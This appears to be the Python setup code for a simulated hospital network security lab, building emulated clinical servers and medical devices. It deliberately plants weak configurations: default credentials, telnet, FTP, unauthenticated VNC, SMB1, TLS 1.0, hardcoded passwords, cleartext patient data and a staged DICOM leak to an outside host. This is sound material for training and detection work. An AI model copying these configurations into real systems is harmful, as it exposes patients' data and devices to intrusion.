"""What each kind of host in the lab runs and does, the planted events, and the findings that follow."""
import json
import os

import labhl7 as hl7
from lablib import WEAK

# servers first, then devices, then those that visit every device
ORDER = {"core": 1, "router": 1, "epr": 2, "tie": 2, "lis": 2, "middleware": 2, "pacs": 2, "ris": 2, "nms": 8, "biomed": 8, "web": 1}
CREDS = [("service", "service"), ("admin", "admin"), ("tech", "tech"), ("maint", "1234"), ("operator", "operator")]


def set_dhcp(L, h, client):
    kinds = {"udhcpc": {"vendor": {"infusion-pump": "%s %s", "printer": "%s %s"}.get(h.type, "udhcp 1.%d.%d" % (h.rng.randrange(20, 36), h.rng.randrange(4))), "opts": ["router", "dns", "ntpsrv", "hostname"][: h.rng.randrange(2, 5)]},
             "dhclient": {"vendor": "MSFT 5.0" if h.type in ("workstation", "biomed-laptop") else "%s %s", "opts": ["subnet-mask", "routers", "domain-name-servers", "domain-name"] + (["router-discovery", "static-routes", "vendor-encapsulated-options", "netbios-name-servers", "netbios-node-type", "netbios-scope", "domain-search"] if h.type in ("workstation", "biomed-laptop") else ["ntp-servers", "host-name"])},
             "dhcpcd": {"vendor": "dhcpcd-%d.%d.%d" % (h.rng.randrange(6, 10), h.rng.randrange(9), h.rng.randrange(9)), "opts": ["domain_name_servers", "ntp_servers", "interface_mtu"]}}
    d = dict(kinds[client])
    if "%s" in (d["vendor"] or ""):
        d["vendor"] = d["vendor"] % (h.maker, h.model)
        h.shows("dhcp option 60", "manufacturer", "model")
    d["client"], d["hostname"] = client, h.spec.get("hostname", "%s-%s" % (h.model.split()[0].lower().replace(".", ""), h.serial[-6:].lower())) if h.type not in ("workstation", "biomed-laptop") else h.name
    h.dhcp = d
    if h.type not in ("workstation", "biomed-laptop", "guest"):
        h.shows("dhcp option 12", "model")
    core = L.one("core")
    h.talk(core, 67, "dhcp", "udp")


def base(L, h, ntp=True, log=False):
    core = L.one("core")
    if core and ntp:
        h.ntp_client(core)
    if core and log:
        h.log_to(core)


def router(L, h):
    conf = "configure system hostname %s\nconfigure system description 'Cisco IOS Software [Cupertino], Catalyst L3 Switch Software (CAT9K_IOSXE), Version %s'\nconfigure system platform 'cisco %s'\nconfigure lldp tx-interval 15\n" % (h.name, h.sw, h.model)
    c = h.file("lldpd.conf", conf)
    h.mkdir_.append("/run/lldpd")
    h.daemon("lldpd", ["lldpd", "-d", "-O", c, "-ccccc", "-l", "-I", ",".join("vl%d" % v["id"] for v in L.vlans.values())], [])
    h.service(0, "lldp", "eth", software="lldpd", ethertype="0x88cc")
    h.service(0, "cdp", "eth", software="lldpd")
    h.shows("cdp, lldp", "manufacturer", "model", "software")
    core = L.one("core")
    if core and core.vlan in L.vlans:
        a = ["dnsmasq", "-k", "-C", h.file("dnsmasq.conf", "port=0\nuser=root\npid-file=\n" + "".join("dhcp-relay=%s.1,%s\n" % (v["net"], core.ip) for n, v in L.vlans.items() if n != core.vlan))]
        h.daemon("dhcp-relay", a, [("udp", 67)])
    h.ip = L.vlans[core.vlan]["net"] + ".1" if core else list(L.vlans.values())[0]["net"] + ".1"


def core(L, h):
    c = "user=root\nkeep-in-foreground\nno-resolv\nno-hosts\nno-poll\npid-file=\ninterface=eth0\nbind-interfaces\ndomain=%s\nlocal=/%s/\ndhcp-leasefile=%s/leases\ndhcp-authoritative\nno-ping\nlog-facility=%s/dnsmasq.log\ndhcp-option=option:dns-server,%s\ndhcp-option=option:ntp-server,%s\ndhcp-option=option:domain-name,%s\n" % (
        L.domain, L.domain, h.dir, h.dir, h.ip, h.ip, L.domain)
    for n, v in L.vlans.items():
        c += "dhcp-range=set:%s,%s.0,static,255.255.255.0,2h\ndhcp-option=tag:%s,option:router,%s.1\n" % (n, v["net"], n, v["net"])
    for x in L.hosts.values():
        if x.ip and not x.router:
            c += "host-record=%s,%s\n" % (x.fqdn, x.ip)
            for a in x.spec.get("aliases", []):
                c += "host-record=%s,%s\n" % (a, x.ip)
            if x.spec.get("dhcp"):
                c += "dhcp-host=%s,%s,%s\n" % (x.mac, x.ip, x.name)
    z = L.one("c2dns")
    if z:
        c += "server=/%s/%s\n" % (z.spec["zone"], z.ip)
    h.daemon("dnsmasq", ["dnsmasq", "-C", h.file("dnsmasq.conf", c)], [("udp", 53), ("udp", 67)], wait=True)
    h.service(53, "dns", "udp", software="dnsmasq")
    h.service(67, "dhcp", "udp", software="dnsmasq")
    h.daemon("chronyd", ["chronyd", "-x", "-d", "-u", "root", "-f", h.file("chrony.conf", "local stratum 4\nallow all\ncmdport 0\npidfile /run/chronyd.pid\n")], [("udp", 123)])
    h.service(123, "ntp", "udp", software="chrony")
    if not L.opt("hardened"):
        h.daemon("rsyslogd", ["rsyslogd", "-n", "-i", "/run/rsyslogd.pid", "-f", h.file("rsyslog.conf", 'module(load="imudp")\ninput(type="imudp" port="514")\n*.* action(type="omfile" file="%s/messages")\n' % h.dir)], [("udp", 514)])
        h.service(514, "syslog", "udp", software="rsyslog", weak=["syslog-cleartext"])


def epr(L, h):
    fh = h.json("fhir.json", {"bind": "127.0.0.1", "port": 8080, "server": "EPR-FHIR", "software": h.spec.get("product", "CareRecord"), "version": "8.2", "patients": [fhir_patient(p) for p in L.patients[:6]]})
    h.daemon("fhir", ["/usr/bin/python3", L.parts + "/fhir_server.py", fh], [("tcp", 8080)])
    h.https(443, title="Electronic patient record", server="nginx", proxy=8080, app="fhir-https")
    base(L, h)
    if L.opt("hardened"):
        h.mllp_server(6661, "node", expose=False)
        h.stunnel_server(6662, 6661, "hl7-mllp-tls")
    else:
        h.mllp_server(6661, "node")
    tie = L.one("tie")
    if tie:
        msgs = [hl7.adt(p, L.facility, e, area=a) for p, e, a in zip(L.patients, ["A01", "A04", "A08", "A03", "A02"] * 4, ["WARD7", "ICU", "ED", "OPD"] * 5)]
        h.mllp_send(tie, 2576 if L.opt("hardened") else 2575, msgs, every=6, engine="simple" if not L.opt("hardened") else "node", tls=L.opt("hardened"), label="adt")
    ris = L.one("ris")
    if ris:
        h.mllp_send(ris, 2575, [hl7.orm(p, L.facility) for p in L.patients[:5]], every=9, engine="simple", label="orders")
    h.shows("tls certificate", "hostname")


def fhir_patient(p):
    return {"resourceType": "Patient", "id": p["id"], "identifier": [{"system": "https://fhir.nhs.uk/Id/nhs-number", "value": p["nhs"]}, {"system": "urn:mrn", "value": p["mrn"]}],
            "name": [{"family": p["family"], "given": [p["given"]]}], "gender": {"M": "male", "F": "female"}[p["sex"]], "birthDate": p["dob_iso"]}


def tie(L, h):
    hard = L.opt("hardened")
    h.mllp_server(2575, "simple", expose=not hard)
    h.stunnel_server(2576, 2575, "hl7-mllp-tls")
    base(L, h)
    e = L.one("epr")
    if e:
        h.mllp_send(e, 6662 if hard else 6661, [hl7.oru(p, L.facility, "TIE", rapp="EPR") for p in L.patients[:6]], every=9, engine="node", tls=hard, label="to-epr")


def gateway(L, h):
    """Pump server / device gateway."""
    hard = L.opt("hardened")
    h.mllp_server(6661, "simple", expose=not hard)
    h.stunnel_server(6662, 6661, "hl7-mllp-tls")
    h.https(443, title="Infusion device gateway", server="nginx")
    base(L, h, log=not hard)
    t = L.one("tie")
    pumps = L.get("pump")
    if t and pumps:
        h.mllp_send(t, 2576, [hl7.pcd01(pumps[i % len(pumps)], L.patients[i % len(L.patients)], L.facility, rapp="TIE") for i in range(4)], every=8, engine="node", tls=True, label="to-tie")


def pump(L, h):
    cfg = h.config_name or "hardened"
    gw = L.one("gateway") or L.one("tie")
    i = L.get(h.id).index(h)
    p = L.patients[i % len(L.patients)]
    msgs = [hl7.pcd01(h, p, L.facility, bed=str(i + 1))]
    port, tport = (6661, 6662) if gw and gw.id == "gateway" else (2575, 2576)
    every = 7
    cred = L.one("biomed").rng.choice(CREDS) if L.one("biomed") else CREDS[0]
    cred = L.scn.setdefault("_cred", cred)
    if cfg == "hardened":
        h.https(443, tmax=L.scn.setdefault("_tmax-" + h.id, h.rng.choice(["TLSv1.2", "TLSv1.3"])))
        h.ssh()
        h.snmp(v3=("monuser", "auth" + h.serial + "pass", "priv" + h.serial + "pass"))
        h.mllp_send(gw, tport, msgs, every, tls=True)
    elif cfg == "telnet-ftp":
        h.telnet(*cred)
        h.ftp(*cred)
        h.mllp_send(gw, port, msgs, every)
    elif cfg == "http-snmp":
        h.http(80, auth=cred, pages={"/status.json": json.dumps({"serial": h.serial, "fw": h.sw, "rate": 12.5})})
        h.snmp(("1", "2c"))
        h.mllp_send(gw, port, msgs, every)
    elif cfg == "smb1-tls10":
        h.smb("NT1", "NT1", shares=(("logs", True),), files=4)
        h.https(443, tmin="TLSv1", tmax="TLSv1", cert=h.cert("expired", "rsa", shared="factory-" + h.id))
        h.mllp_send(gw, port, msgs, every)
    if "telnet" in h.faults:
        h.telnet(*cred)
    base(L, h, ntp=(i % 2 == 0), log=not L.opt("hardened") and i % 3 == 0)
    if cfg in ("http-snmp", "hardened") and not h.v6 and i % 2:
        h.lldp()


def monitor_hl7(L, h):
    cs = L.one("central") or L.one("tie")
    i = L.get(h.id).index(h)
    hard = L.opt("hardened") or h.config_name == "tls"
    t = L.one("tie")
    h.mllp_send(t, 2576 if hard else 2575, [hl7.pcd01(h, L.patients[(i + 3) % len(L.patients)], L.facility, rapp="TIE", bed=str(i + 1))], every=5, tls=hard)
    if hard:
        h.https(443)
    else:
        h.http(80)
    h.lldp()
    base(L, h)


def monitor_iv(L, h):
    i = L.get(h.id).index(h)
    p = L.patients[(i + 6) % len(L.patients)]
    bed = "%s-%02d" % (h.area, i + 1)
    h.sim("iv", "iv-monitor", {"maker": h.maker, "model": h.model, "serial": h.serial, "hw": h.hw, "sw": h.sw, "part": h.dev["part"], "bed": bed, "mac": h.mac, "ip": h.ip,
                               "broadcast": h.ip.rsplit(".", 1)[0] + ".255", "patient": p, "beacon": 9}, [("udp", 24105)])
    h.service(24105, "intellivue", "udp", software="lab simulator", simulated=True, weak=["intellivue-cleartext-phi"])
    h.shows("intellivue connect indication", "manufacturer", "model", "serial", "software")
    base(L, h)


def central(L, h):
    ms = L.get("monitor-iv")
    if ms:
        h.sim_act("iv-client", "iv-client", {"monitors": [m.ip for m in ms], "every": 2})
        for m in ms:
            h.talk(m, 24105, "intellivue", "udp", phi=True, weak=["intellivue-cleartext-phi"], simulated=True)
    if L.get("ventilator") or L.get("anaesthesia"):
        h.sim_act("sdc-consumer", "sdc-consumer", {"ip": h.ip, "every": 5})
        for v in L.get("ventilator") + L.get("anaesthesia"):
            if v.vlan == h.vlan:
                tls = v.config_name == "tls"
                h.talk(v, 6464, "sdc", tls="TLS" if tls else None, phi=True, weak=[] if tls else ["sdc-cleartext-phi"], simulated=True)
    t = L.one("tie")
    hard = L.opt("hardened")
    if t and ms:
        h.mllp_send(t, 2576 if hard else 2575, [hl7.pcd01(m, L.patients[(i + 6) % len(L.patients)], L.facility, rapp="TIE") for i, m in enumerate(ms)], every=6, tls=hard, label="to-tie")
    base(L, h)


def sdc(L, h):
    import uuid
    i = L.get(h.id).index(h)
    h.config_name = h.config_name or ("tls" if L.opt("hardened") else "plain")
    tls = None
    if h.config_name == "tls":
        c = h.cert()
        tls = {"cert": c["crt"], "key": c["key"]}
    p = L.patients[(i + 9) % len(L.patients)]
    mets = [("m.rr", "151594", "264928", 10, 22), ("m.peep", "151976", "266048", 4, 8), ("m.vt", "151868", "263762", 380, 520), ("m.fio2", "152196", "262688", 30, 60)]
    h.sim("sdc", "sdc-provider", {"ip": h.ip, "port": 6464, "epr": "urn:uuid:" + str(uuid.UUID(int=h.rng.getrandbits(128), version=4)), "facility": L.facility, "poc": h.area, "bed": "%s-%02d" % (h.area, i + 1), "maker": h.maker,
                                  "model": h.model, "serial": h.serial, "sw": h.sw, "di": h.di, "name": h.name, "mds_type": h.dev.get("mds", "70001"), "metrics": mets, "patients": [p], "tls": tls}, [("tcp", 6464), ("udp", 3702)])
    h.service(6464, "sdc", software="lab simulator", simulated=True, tls={"offered": ["TLSv1.2", "TLSv1.3"], "certificate": c["info"]} if tls else None, weak=[] if tls else ["sdc-cleartext-phi"])
    h.service(3702, "ws-discovery", "udp", software="lab simulator", simulated=True)
    if not tls:
        h.shows("sdc ThisModel/ThisDevice/MDIB", "manufacturer", "model", "serial", "software")
    h.lldp()
    base(L, h)


# ---------------------------------------------------------------- imaging
SOP = {"CT": "1.2.840.10008.5.1.4.1.1.2", "MR": "1.2.840.10008.5.1.4.1.1.4", "US": "1.2.840.10008.5.1.4.1.1.6.1", "DX": "1.2.840.10008.5.1.4.1.1.1.1"}
SIZE = {"CT": (128, 128, 6), "MR": (128, 128, 5), "US": (160, 120, 2), "DX": (320, 320, 1)}


def dicom_study(L, h, mod, k, patient):
    w, ht, n = SIZE[mod]
    d = os.path.join(h.dir, "study%d" % k)
    os.makedirs(d, exist_ok=True)
    root = "1.2.826.0.1.3680043.10.999.%d.%d" % (int(h.mac.replace(":", "")[6:], 16), k)
    rgb = mod == "US"
    r = h.rng
    for i in range(n):
        if rgb:
            px = bytearray()
            for y in range(ht):
                px += bytes((min(255, (x * y) // 90 + 20 + (x ^ y) % 13) for x in range(w) for _ in (0, 1, 2)))
        else:
            px = bytearray()
            for y in range(ht):
                for x in range(w):
                    v = (900 if (x - w / 2) ** 2 + (y - ht / 2) ** 2 < (w / 3) ** 2 else 0) + ((x * 7 + y * 3 + i * 31) % 61)
                    px += bytes((v & 255, v >> 8))
        raw = h.file("study%d/px.raw" % k, bytes(px))
        t = lambda tag, vr, v: "(%s) %s [%s]" % (tag, vr, v)
        lines = [t("0008,0005", "CS", "ISO_IR 100"), t("0008,0008", "CS", "ORIGINAL\\\\PRIMARY"), t("0008,0016", "UI", SOP[mod]), t("0008,0018", "UI", "%s.1.%d" % (root, i + 1)), t("0008,0020", "DA", "20250301"), t("0008,0030", "TM", "1015%02d" % k),
                 t("0008,0050", "SH", "A%07d" % r.randrange(10 ** 7)), t("0008,0060", "CS", mod), t("0008,0070", "LO", h.maker), t("0008,0080", "LO", L.facility.title() + " Hospital"), t("0008,0090", "PN", "Referrer^Test"),
                 t("0008,1010", "SH", h.spec.get("station", h.name.upper())), t("0008,1030", "LO", mod + " study"), t("0008,1090", "LO", h.model), t("0010,0010", "PN", "%s^%s" % (patient["family"], patient["given"])), t("0010,0020", "LO", patient["mrn"]),
                 t("0010,0030", "DA", patient["dob"]), t("0010,0040", "CS", patient["sex"]), t("0018,1000", "LO", h.serial), t("0018,1020", "LO", h.sw), t("0020,000d", "UI", root), t("0020,000e", "UI", root + ".1"), t("0020,0010", "SH", str(k)),
                 t("0020,0011", "IS", "1"), t("0020,0013", "IS", str(i + 1)), "(0028,0002) US %d" % (3 if rgb else 1), t("0028,0004", "CS", "RGB" if rgb else "MONOCHROME2")]
        if rgb:
            lines.append("(0028,0006) US 0")
        lines += ["(0028,0010) US %d" % ht, "(0028,0011) US %d" % w, "(0028,0100) US %d" % (8 if rgb else 16), "(0028,0101) US %d" % (8 if rgb else 12), "(0028,0102) US %d" % (7 if rgb else 11), "(0028,0103) US 0", "(7fe0,0010) %s =%s" % ("OB" if rgb else "OW", raw)]
        dump = h.file("study%d.dump" % k, "\n".join(lines) + "\n")
        L.sh(["dump2dcm", "-q", "+te", dump, "%s/i%03d.dcm" % (d, i)])
    os.remove(d + "/px.raw")
    return d


def modality(L, h):
    mod = h.spec["modality"]
    aet = h.name.upper()[:16]
    h.aet = aet
    pacs, ris = L.one("pacs"), L.one("ris")
    tls = h.config_name == "tls"
    i = L.get(h.id).index(h)
    studies = [dicom_study(L, h, mod, k, L.patients[(i * 3 + k + len(mod) + ord(mod[0])) % len(L.patients)]) for k in (1, 2)]
    sec = []
    if tls:
        c = h.cert(key="rsa")
        sec = ["+tls", c["key"], c["crt"], "-ic"]
    port = 2762 if tls else 104
    if ris:
        h.act("worklist", ["findscu", "-W", "-aet", aet, "-aec", "RISWL", "-k", "0008,0050", "-k", "0010,0010", "-k", "0010,0020", "-k", "0010,0030", "-k", "(0040,0100)[0].0008,0060=" + mod, "-k", "(0040,0100)[0].0040,0001", "-k", "(0040,0100)[0].0040,0002", ris.ip, "104"], every=14)
        h.talk(ris, 104, "dicom", phi=True, weak=["dicom-cleartext-phi"])
    h.act("echo", ["echoscu", "-aet", aet, "-aec", "PACS"] + sec + [pacs.ip, str(port)], every=25)
    h.act("store", argvs=[["storescu", "-aet", aet, "-aec", "PACS", "+sd"] + sec + [pacs.ip, str(port), s] for s in studies], every=16, timeout=30)
    h.talk(pacs, port, "dicom", tls="TLS" if tls else None, phi=True, weak=[] if tls else ["dicom-cleartext-phi"])
    h.outbound.append("dicom/tls" if tls else "dicom")
    h.shows("dicom data set, calling AE title" if not tls else "nothing (TLS)", *([] if tls else ["manufacturer", "model", "serial", "software", "station"]))
    if "exfil" in h.faults:
        x = L.one("research")
        a = h.act("exfil", ["storescu", "-aet", aet, "-aec", "TRIALSTORE", "+sd", x.ip, "11112", studies[0]], every=max(10, L.seconds / 3), first=L.seconds * h.rng.uniform(.3, .5), timeout=30)
        h.talk(x, 11112, "dicom", phi=True, weak=["dicom-cleartext-phi", "phi-to-external-cleartext"])
        L.problem("dicom-store-to-external", "images with patient identifiers are sent to a host outside the organisation", "critical", [h, x], [{"a": h.ip, "b": x.ip, "port": 11112, "proto": "tcp"}], [[h.name, a["label"]]])
    if "vnc" in h.faults:
        vnc(L, h)
    if h.config_name == "tls" or h.spec.get("lldp"):
        h.lldp()
    base(L, h)


def vnc(L, h):
    h.tmpfs.append("/tmp/.X11-unix")
    h.daemon("vnc", ["Xvnc", ":%d" % (20 + len(L.problems) % 70), "-nolock", "-rfbport", "5900", "-SecurityTypes", "None", "-geometry", "320x240", "-depth", "16", "-localhost", "no", "-AlwaysShared", "-desktop", "%s %s" % (h.maker, h.model)], [("tcp", 5900)])
    h.service(5900, "vnc", software="TigerVNC Xvnc", weak=["vnc-no-auth"])
    h.shows("vnc desktop name", "manufacturer", "model")


def pacs(L, h):
    plugs = [p for p in ("/usr/lib/orthanc/libOrthancDicomWeb.so", "/usr/share/orthanc/plugins/libOrthancDicomWeb.so") if os.path.exists(p)]
    ws = L.get("radws")
    d = os.path.join(h.dir, "db")
    os.makedirs(d, exist_ok=True)
    conf = {"Name": "PACS", "StorageDirectory": d, "IndexDirectory": d, "HttpPort": 8042, "RemoteAccessAllowed": True, "AuthenticationEnabled": True, "RegisteredUsers": {"orthanc": "orthanc"}, "DicomAet": "PACS", "DicomPort": 104,
            "DicomCheckCalledAet": False, "DicomAlwaysAllowFind": True, "DicomAlwaysAllowMove": True, "DicomAlwaysAllowGet": True, "DicomModalities": {w.name: [w.name.upper()[:16], w.ip, 104] for w in ws}, "Plugins": plugs,
            "DicomWeb": {"Enable": True}, "SaveJobs": False, "StableAge": 600}
    h.daemon("orthanc", ["Orthanc", h.json("orthanc.json", conf)], [("tcp", 104), ("tcp", 8042)], wait=True)
    h.service(104, "dicom", software="Orthanc", weak=["dicom-cleartext-phi"], ae_title="PACS")
    h.stunnel_server(2762, 104, "dicom-tls", cert=h.cert(key="rsa"))
    h.service(8042, "http", software="Orthanc REST and DICOMweb", weak=["http-basic-cleartext", "default-credentials"], credentials=["orthanc", "orthanc"])
    h.https(443, title="PACS web", proxy=8042, tmax="TLSv1.2")
    base(L, h)


def ris(L, h):
    d = os.path.join(h.dir, "wl", "RISWL")
    os.makedirs(d)
    open(d + "/lockfile", "w").close()
    mods = [m for m in ("ct", "mr", "us", "dx") if L.get(m)]
    k = 0
    for m in mods:
        for j in range(3):
            p = L.patients[(k * 2 + 1) % len(L.patients)]
            k += 1
            t = lambda tag, vr, v: "(%s) %s [%s]" % (tag, vr, v)
            txt = "\n".join([t("0008,0005", "CS", "ISO_IR 100"), t("0008,0050", "SH", "A%07d" % h.rng.randrange(10 ** 7)), t("0010,0010", "PN", "%s^%s" % (p["family"], p["given"])), t("0010,0020", "LO", p["mrn"]), t("0010,0030", "DA", p["dob"]), t("0010,0040", "CS", p["sex"]),
                             t("0020,000d", "UI", "1.2.826.0.1.3680043.10.999.77.%d" % k), t("0032,1060", "LO", m.upper() + " examination"), "(0040,0100) SQ", "(fffe,e000) na", t("0008,0060", "CS", m.upper()), t("0040,0001", "AE", L.get(m)[j % len(L.get(m))].name.upper()[:16]),
                             t("0040,0002", "DA", "20250301"), t("0040,0003", "TM", "101500"), t("0040,0006", "PN", "Perform^Test"), t("0040,0007", "LO", m.upper() + " examination"), t("0040,0009", "SH", "SP%d" % k), "(fffe,e00d) na", "(fffe,e0dd) na", t("0040,1001", "SH", "RP%d" % k)]) + "\n"
            L.sh(["dump2dcm", "-q", h.file("wl%d.dump" % k, txt), "%s/w%02d.wl" % (d, k)])
    h.daemon("wlmscpfs", ["wlmscpfs", "-dfp", os.path.dirname(d), "104"], [("tcp", 104)])
    h.service(104, "dicom", software="DCMTK wlmscpfs", weak=["dicom-cleartext-phi"], ae_title="RISWL")
    h.mllp_server(2575, "simple")
    if L.one("epr"):
        h.mllp_send(L.one("epr"), 6661, [hl7.oru(p, L.facility, "RIS", rapp="EPR") for p in L.patients[2:6]], every=8, label="reports")
    base(L, h, log=True)


def radws(L, h):
    aet = h.name.upper()[:16]
    d = os.path.join(h.dir, "in")
    os.makedirs(d)
    h.daemon("storescp", ["storescp", "-aet", aet, "-od", d, "--fork", "104"], [("tcp", 104)])
    h.service(104, "dicom", software="DCMTK storescp", weak=["dicom-cleartext-phi"], ae_title=aet)
    p = L.one("pacs")
    pts = L.patients
    h.act("find", ["findscu", "-S", "-aet", aet, "-aec", "PACS", "-k", "0008,0052=STUDY", "-k", "0010,0010", "-k", "0010,0020", "-k", "0020,000d", "-k", "0008,0061", p.ip, "104"], every=15)
    h.act("move", argvs=[["movescu", "-S", "-aet", aet, "-aec", "PACS", "-aem", aet, "-k", "0008,0052=STUDY", "-k", "0020,000d=" + u, p.ip, "104"] for u in study_uids(L)], every=22, first=L.seconds * .45, timeout=30)
    h.talk(p, 104, "dicom", phi=True, weak=["dicom-cleartext-phi"])
    p.talk(h, 104, "dicom", phi=True, weak=["dicom-cleartext-phi"])
    i = L.get(h.id).index(h)
    if i % 2 == 0:
        h.curl("dicomweb", p, "http://%s:8042/dicom-web/studies?limit=3&includefield=00081030" % p.ip, every=17, args=["-u", "orthanc:orthanc"], phi=True, weak=["http-basic-cleartext", "dicomweb-cleartext-phi"], app="dicomweb")
    else:
        h.curl("pacsweb", p, "https://%s/app/explorer.html" % p.fqdn, every=17, args=["-u", "orthanc:orthanc"], phi=True)
    base(L, h)


def study_uids(L):
    out = []
    for m in ("ct", "mr", "us", "dx"):
        for x in L.get(m):
            out.append("1.2.826.0.1.3680043.10.999.%d.1" % int(x.mac.replace(":", "")[6:], 16))
    return out[:6] or ["1.2"]


def research(L, h):
    d = os.path.join(h.dir, "in")
    os.makedirs(d)
    h.daemon("storescp", ["storescp", "-aet", "TRIALSTORE", "-od", d, "--fork", "11112"], [("tcp", 11112)])
    h.service(11112, "dicom", software="DCMTK storescp", ae_title="TRIALSTORE")


# ---------------------------------------------------------------- pathology
CHEM = [("NA", "mmol/L", 128, 148), ("K", "mmol/L", 3, 6), ("CREA", "umol/L", 45, 200), ("CRP", "mg/L", 1, 90), ("HGB", "g/L", 80, 170)]


def analyser(L, h):
    mw = L.one("middleware")
    port = 4000 + L.get(h.id).index(h) % 2
    h.sim_act("astm", "astm-analyser", {"host": mw.ip, "port": port, "maker": h.maker, "model": h.model, "sw": h.sw, "serial": h.serial, "patients": L.patients, "every": 6, "tests": h.rng.sample(CHEM, 3)})
    h.talk(mw, port, "astm", phi=True, weak=["astm-cleartext-phi"], simulated=True)
    h.outbound.append("astm")
    h.shows("astm H and R records", "manufacturer", "model", "serial", "software")
    f = h.config_name or ""
    if "telnet" in h.faults:
        h.telnet(*h.rng.choice(CREDS))
    if "smb1" in h.faults:
        h.smb("NT1", "SMB2", shares=(("export", True),), files=5)
    if "vnc" in h.faults:
        vnc(L, h)
    if "ftp" in h.faults:
        h.ftp(*h.rng.choice(CREDS))
    base(L, h, log=bool(f))


def poct(L, h):
    mw = L.one("middleware")
    h.sim_act("poct", "poct-device", {"host": mw.ip, "port": 3001, "maker": h.maker, "vendor_id": h.dev["vendor_id"], "model": h.model, "sw": h.sw, "hw": h.hw, "serial": h.serial, "name": "%s %s" % (h.area, h.name), "eui64": h.eui64, "patients": L.patients, "every": 6,
                                      "tests": [("2339-0", "mmol/L", 3.2, 14.0), ("2744-1", "pH", 7.1, 7.5), ("2524-7", "mmol/L", .5, 4.0)]})
    h.talk(mw, 3001, "poct1a", phi=True, weak=["poct1a-cleartext-phi"], simulated=True)
    h.shows("poct1a HEL.R01", "manufacturer", "model", "serial", "software")


def middleware(L, h):
    for p in (4000, 4001):
        h.sim("astm%d" % p, "astm-host", {"port": p}, [("tcp", p)])
        h.service(p, "astm", software="lab simulator", simulated=True, weak=["astm-cleartext-phi"])
    if L.get("poct"):
        h.sim("poct", "poct-host", {"port": 3001}, [("tcp", 3001)])
        h.service(3001, "poct1a", software="lab simulator", simulated=True, weak=["poct1a-cleartext-phi"])
    lis = L.one("lis")
    an = L.get("analyser")
    h.mllp_send(lis, 2580, [hl7.oru(p, L.facility, "MIDDLEWARE", an[i % len(an)], rapp="LIS") for i, p in enumerate(L.patients[:6])], every=4, label="to-lis")
    base(L, h, log=True)


def lis(L, h):
    h.mllp_server(2580, "simple")
    h.may_die.add("mllp2580")
    d = os.path.join(h.dir, "pg")
    import pwd
    try:
        u = pwd.getpwnam("postgres")
    except KeyError:
        u = None
    if u:
        os.makedirs(d, exist_ok=True)
        os.chown(d, u.pw_uid, u.pw_gid)
        os.chmod(d, 0o700)
        B = "/usr/lib/postgresql/15/bin"
        sql = h.file("init.sql", "create role lisrep login password 'Haematology1';\ncreate table result(id serial, nhs text, mrn text, family text, given text, dob text, test text, value numeric, taken timestamptz default now());\ngrant select on result to lisrep;\n"
                     + "".join("insert into result(nhs,mrn,family,given,dob,test,value) values('%s','%s','%s','%s','%s','Sodium',%d);\n" % (p["nhs"], p["mrn"], p["family"], p["given"], p["dob_iso"], 130 + i) for i, p in enumerate(L.patients)))
        h.mkdir_.append("/run/postgresql")
        c = h.cert(key="rsa")
        ky = h.file("pg.key", open(c["key"]).read(), 0o600)
        os.chown(ky, u.pw_uid, u.pw_gid)
        s = h.file("pg.sh", "#!/bin/sh\nset -e\nD=%s\n%s/initdb -D $D -A trust -U postgres --no-sync >/dev/null\n%s/postgres --single -D $D postgres < %s >/dev/null\nprintf 'local all all trust\\nhost all all 0.0.0.0/0 scram-sha-256\\n' > $D/pg_hba.conf\n"
                   "exec %s/postgres -D $D -c listen_addresses=0.0.0.0 -c unix_socket_directories=$D -c fsync=off -c ssl=on -c ssl_cert_file=%s -c ssl_key_file=%s\n" % (d, B, B, sql, B, c["crt"], ky), 0o755)
        h.daemon("postgres", [s], [("tcp", 5432)], uid=[u.pw_uid, u.pw_gid], cwd=d)
        h.service(5432, "postgresql", software="PostgreSQL 15", weak=[], tls={"offered": ["optional"], "certificate": c["info"]})
    h.smb("SMB2", "SMB3", shares=(("LISdata", False),), user=("svc_lis", "Pathology1"), files=40, weak=[])
    e = L.one("epr")
    if e:
        h.mllp_send(e, 6661, [hl7.oru(p, L.facility, "LIS", rapp="EPR") for p in L.patients[:8]], every=5, engine="node", label="to-epr")
    base(L, h)


def reporting(L, h):
    """Office PC in pathology that reads the LIS data base."""
    x = L.one("lis")
    sec = "require" if h.config_name == "tls" else "disable"
    h.act("psql", ["psql", "-h", x.ip, "-U", "lisrep", "-d", "postgres", "-c", "select nhs, family, given, dob, test, value from result limit 12"], every=11, env={"PGPASSWORD": "Haematology1", "PGSSLMODE": sec, "PGCONNECT_TIMEOUT": "5"})
    h.talk(x, 5432, "postgresql", tls="TLS" if sec == "require" else None, phi=True, weak=[] if sec == "require" else ["db-cleartext-phi"])
    workstation(L, h)


def fridge(L, h):
    t = int(h.rng.uniform(35, 45))
    c = h.json("modbus.json", {"vendor": h.maker, "code": h.hw, "rev": h.sw, "product": "Blood bank refrigerator", "model": h.model, "app": "SN " + h.serial, "registers": [t, 40, 20, 60, 1, 0, 230, 0]})
    h.daemon("modbus", ["/usr/bin/python3", L.parts + "/modbus_server.py", c], [("tcp", 502)])
    h.service(502, "modbus", software="pymodbus", weak=["modbus-no-auth"])
    h.shows("modbus device identification", "manufacturer", "model", "serial", "software")


def fridge_monitor(L, h):
    for f in L.get("fridge"):
        h.act("read-" + f.name, ["mbpoll", "-m", "tcp", "-a", "1", "-r", "1", "-c", "6", "-t", "4", "-1", "-q", f.ip], every=5)
        h.act("ident-" + f.name, ["/usr/bin/python3", L.parts + "/modbus_ident.py", f.ip], every=25)
        h.talk(f, 502, "modbus", weak=["modbus-no-auth"])
    if L.get("bms"):
        c = h.json("bacnet.json", {"broadcast": h.ip.rsplit(".", 1)[0] + ".255", "every": 5, "targets": [{"ip": b.ip, "deviceId": b.bacnet_id} for b in L.get("bms")]})
        h.act("bacnet", ["node", L.parts + "/bacnet.js", "client", c], first=1, timeout=L.seconds + 30)
        for b in L.get("bms"):
            h.talk(b, 47808, "bacnet", "udp", weak=["bacnet-no-auth"])
    base(L, h)


def bms(L, h):
    h.bacnet_id = h.rng.randrange(1000, 400000)
    c = h.json("bacnet.json", {"broadcast": h.ip.rsplit(".", 1)[0] + ".255", "deviceId": h.bacnet_id, "name": h.name, "vendor": h.maker, "vendorId": h.dev["vendor_id"], "model": h.model, "firmware": h.sw, "version": h.hw, "description": "Air handling " + h.area_name,
                               "location": h.area_name, "base": 18, "spread": 5, "points": ["Supply air", "Return air", "Room", "Filter dP"]})
    h.daemon("bacnet", ["node", L.parts + "/bacnet.js", "device", c], [("udp", 47808)])
